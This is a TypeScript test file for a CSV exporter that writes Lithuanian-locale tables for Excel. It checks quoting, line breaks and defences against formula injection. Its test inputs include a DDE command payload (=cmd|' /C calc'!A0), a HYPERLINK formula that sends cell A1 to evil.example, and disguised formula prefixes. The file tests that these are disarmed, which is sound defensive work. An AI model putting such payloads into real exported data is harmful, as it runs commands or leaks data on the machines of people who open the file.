import { describe, expect, it } from 'vitest'
import { CSV_START, csvRow } from './csv.ts'

/** Parses CSV as a spreadsheet does (RFC 4180, with semicolons). */
function read(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const match of text.matchAll(/(?:"((?:[^"]|"")*)"|([^;"\r\n]*))(;|\r\n)/g)) {
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '')
    if (match[3] === ';') continue
    rows.push(row)
    row = []
  }
  return rows
}

const cellOf = (text: string) => read(csvRow([text]))[0]?.[0] ?? ''

describe('a table', () => {
  it('starts with the mark by which Excel knows UTF-8', () => {
    expect([...new TextEncoder().encode(CSV_START)]).toEqual([0xef, 0xbb, 0xbf])
  })

  it('has semicolons between cells and ends each row with CRLF', () => {
    expect(csvRow(['Ona', null, 'ona@example.lt'])).toBe('"Ona";;"ona@example.lt"\r\n')
    expect(csvRow([])).toBe('\r\n')
  })

  it('writes numbers with a comma, without quotes, so that they can be summed', () => {
    expect(csvRow([12, 0, 3.5, -2.25])).toBe('12;0;3,5;-2,25\r\n')
  })

  it.each([
    ['quotes', 'Sakė „taip“ ir "ne"'],
    ['a quote alone', '"'],
    ['semicolons', 'a;b;c'],
    ['an end of a cell that is none', 'a";"b'],
    ['line breaks', 'viena\nkita'],
    ['a formula behind a line break', 'viena\n=1+1'],
    ['an end of a row that is none', 'a"\n"b'],
    ['Lithuanian letters', 'ąčęėįšųūž ĄČĘĖĮŠŲŪŽ'],
    ['nothing', ''],
    ['signs that begin no formula', "a=1, b+c, d-e, f@g, 'h"],
  ])('keeps %s as they are', (_what, text) => {
    expect(cellOf(text)).toBe(text)
  })

  it('makes every line break within a cell that of Excel', () => {
    expect(cellOf('a\r\nb\rc\nd')).toBe('a\nb\nc\nd')
  })

  it('stays one row of as many cells, whatever they hold', () => {
    const hostile = ['a";=1', '"\r\n"', ';;;', '\r\n=cmd', 'x\t";"=y', '""""']
    expect(read(csvRow(hostile) + csvRow(['kita']))).toMatchObject([{ length: 6 }, ['kita']])
  })
})

describe('a text that a spreadsheet might run', () => {
  it.each([
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("https://evil.example/?"&A1;"spausk")',
    '+37060000000',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\r\n=1+1',
    '\tbe formulės',
    '  =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('is disarmed: %j', (text) => {
    const cell = cellOf(text)
    expect(cell).toBe(`'${text.replaceAll(/\r\n?/g, '\n')}`)
  })
})
